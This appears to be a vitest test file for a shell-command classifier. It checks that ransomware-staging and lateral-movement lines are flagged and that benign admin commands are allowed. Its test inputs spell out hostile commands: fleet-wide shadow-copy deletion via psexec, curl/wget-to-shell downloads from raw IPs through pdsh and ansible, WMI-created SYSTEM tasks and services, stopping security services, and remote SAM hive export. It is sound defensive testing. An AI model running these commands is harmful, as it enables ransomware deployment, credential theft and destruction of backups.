/**
 * Blind round 21 (ransomware staging, lateral movement, exfiltration through admin tools): a backup script's own
 * snapshot removed once copied, and commands carried to other hosts by fleet tools and WMI.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

const rules = (text: string, shell: Shell) => evaluateLine(text, shell).reasons.map((r) => r.ruleId);

describe("a backup script's own snapshot", () => {
  it('removing the snapshot the script took is the end of a backup; removing others is still destruction', () => {
    const lvm =
      'lvcreate -L 5G -s -n data_snap /dev/vg0/data\nmount -o ro /dev/vg0/data_snap /mnt/snap && tar czf /mnt/backup/data.tgz -C /mnt/snap . && umount /mnt/snap\nlvremove -y /dev/vg0/data_snap';
    expect(decision(lvm, 'bash')).toBe('allow');
    expect(decision('zfs snapshot tank/db@bk && zfs send tank/db@bk | gzip > /mnt/backup/db.gz && zfs destroy tank/db@bk', 'bash')).toBe(
      'allow',
    );
    expect(rules('zfs snapshot tank/db@bk; zfs destroy tank/db@daily-1', 'bash')).toContain('evasion.backups.delete');
    expect(rules('lvcreate -s -n s1 /dev/vg0/d; lvremove -y /dev/vg0/s1 /dev/vg0/old_snap', 'bash')).toContain('evasion.backups.delete');
    expect(rules('lvremove -y /dev/vg0/data_snap', 'bash')).toContain('evasion.backups.delete');
  });
});

describe('commands carried to other hosts', () => {
  it('psexec given a file of computers runs the command after it', () => {
    expect(rules('psexec @C:\\ProgramData\\comps.txt -accepteula -d -s cmd /c "vssadmin delete shadows /all /quiet"', 'cmd')).toContain(
      'evasion.shadow-copies.delete',
    );
  });

  it('pssh, pdsh and ansible run their command line on every host', () => {
    expect(rules("pssh -h /root/all.txt -l root -i 'echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | bash'", 'bash')).toContain(
      'enc.decode-pipe-exec',
    );
    expect(rules('pdsh -w web[1-4] "curl -s http://198.51.100.7/a.sh | sh"', 'bash')).toContain('dl.pipe-to-interpreter');
    expect(rules('ansible all -i /etc/ansible/hosts -b -m shell -a "wget -qO- http://91.215.85.17/d.sh | bash"', 'bash')).toContain(
      'dl.pipe-to-interpreter',
    );
    expect(decision("pssh -h hosts.txt -l root -i 'uptime'", 'bash')).toBe('allow');
    expect(decision("ansible web -m copy -a 'src=/etc/hosts dest=/etc/hosts'", 'bash')).toBe('allow');
    expect(decision("ansible all -b -m shell -a 'systemctl restart nginx'", 'bash')).toBe('allow');
  });

  it('Invoke-WmiMethod Win32_Process Create runs its first argument; Win32_Service Create makes a service', () => {
    expect(
      rules(
        "Invoke-WmiMethod -ComputerName FILE-NAS -Class Win32_Process -Name Create -ArgumentList 'schtasks /create /tn Chk /tr C:\\Users\\Public\\chk.exe /sc minute /ru SYSTEM'",
        'powershell',
      ),
    ).toContain('persist.schtasks');
    expect(
      rules(
        "Invoke-WmiMethod -ComputerName SQL01 -Class Win32_Service -Name Create -ArgumentList $false,'Update Helper',1,$null,$null,'UsoHlp','C:\\Windows\\Temp\\uh.exe',$null,16,'Automatic','LocalSystem',''",
        'powershell',
      ),
    ).toContain('persist.service');
    expect(decision("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'notepad.exe C:\\logs\\a.txt'", 'powershell')).toBe(
      'allow',
    );
    // A CommandLine entry is a command line whatever program it starts.
    expect(
      rules(
        "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='sc.exe create upd binPath= C:\\ProgramData\\u.exe start= auto'}",
        'powershell',
      ),
    ).toContain('persist.service');
  });
});

describe('developer tools that fetch code from a repository and run it', () => {
  it('git and hosted-git sources, and remote Go modules at a version, are download and run', () => {
    expect(rules('py -m pip install --user git+https://github.com/p4yl0ad/winhelper.git', 'powershell')).toContain('dl.package-from-url');
    expect(rules('uvx --from git+https://github.com/unknown-dev/patchkit patchkit apply', 'powershell')).toContain('dl.package-from-url');
    expect(rules('npx -y github:mac-helpr/brew-repair', 'zsh')).toContain('dl.package-from-url');
    expect(rules('bun x github:qwx-labs/cleanup-node --yes', 'bash')).toContain('dl.package-from-url');
    expect(rules('go run github.com/x0rz3r/netpeek/cmd/peek@latest -scan 10.0.0.0/16', 'cmd')).toContain('dl.script-url');
  });

  it('registry packages, local code and installs of a Go tool are not', () => {
    for (const text of [
      'uvx ruff check .',
      'npx -y prettier --check .',
      'bun x prettier --check .',
      'go run ./cmd/server',
      'go run main.go',
      'go install golang.org/x/tools/gopls@latest',
      'pip install -r requirements.txt',
    ])
      expect(decision(text, 'bash'), text).toBe('allow');
  });
});

describe('lists and loops in ransomware staging', () => {
  it('a loop over a list variable binds the loop variable to its known items (one like MSSQL$X reads as a variable, left out)', () => {
    const text =
      "$svcs = 'MSSQL$VEEAMSQL2016','VeeamNFSSvc','Sense','WdNisSvc'\nforeach ($s in $svcs) {\n  Stop-Service -Name $s -Force\n  Set-Service -Name $s -StartupType Disabled\n}";
    expect(rules(text, 'powershell')).toContain('evasion.security-service.stop');
    expect(decision("$svcs = 'Spooler','MSSQL$SQLEXPRESS'\nforeach ($s in $svcs) { Restart-Service -Name $s }", 'powershell')).toBe(
      'allow',
    );
  });

  it('shadow copies deleted through a loop variable or Invoke-CimMethod Delete', () => {
    expect(rules('$copies = gwmi -Class Win32_ShadowCopy\nforeach ($c in $copies) { $c.Delete() }', 'powershell')).toContain(
      'evasion.shadow-copies.delete',
    );
    expect(
      rules('Get-CimInstance Win32_ShadowCopy | ForEach-Object { Invoke-CimMethod -InputObject $_ -MethodName Delete }', 'powershell'),
    ).toContain('evasion.shadow-copies.delete');
    expect(
      decision('$copies = Get-CimInstance Win32_ShadowCopy\nforeach ($c in $copies) { Write-Output $c.InstallDate }', 'powershell'),
    ).toBe('allow');
  });

  it('a security product looked up in Win32_Product and removed by msiexec /x of its code', () => {
    const lookup = (name: string) =>
      `$p = Get-CimInstance Win32_Product | Where-Object Name -like '${name}*'\nmsiexec.exe /x $p.IdentifyingNumber /qn`;
    expect(rules(lookup('Sophos Endpoint'), 'powershell')).toContain('evasion.security-service.uninstall');
    expect(decision(lookup('Java 8'), 'powershell')).toBe('allow');
  });

  it("another computer's SAM saved through the remote registry is a hive export", () => {
    expect(rules('reg save \\\\SQL-PRD-01\\HKLM\\SAM C:\\PerfLogs\\r_sam /y', 'cmd')).toContain('cred.hive-export');
    expect(decision('reg save \\\\FS01\\HKLM\\Software\\Vendor C:\\x.hiv', 'cmd')).toBe('allow');
  });

  it('every backup set of a kind removed by a wildcard in a backup folder; temporary files there are not backups', () => {
    expect(rules('rm -rf /srv/rsnapshot/daily.* /srv/rsnapshot/weekly.*', 'bash')).toContain('evasion.backups.delete');
    expect(decision('rm -rf /var/backups/*.tmp', 'bash')).toBe('allow');
    expect(decision('rm -f /backups/db/old.sql.gz', 'bash')).toBe('allow');
  });
});
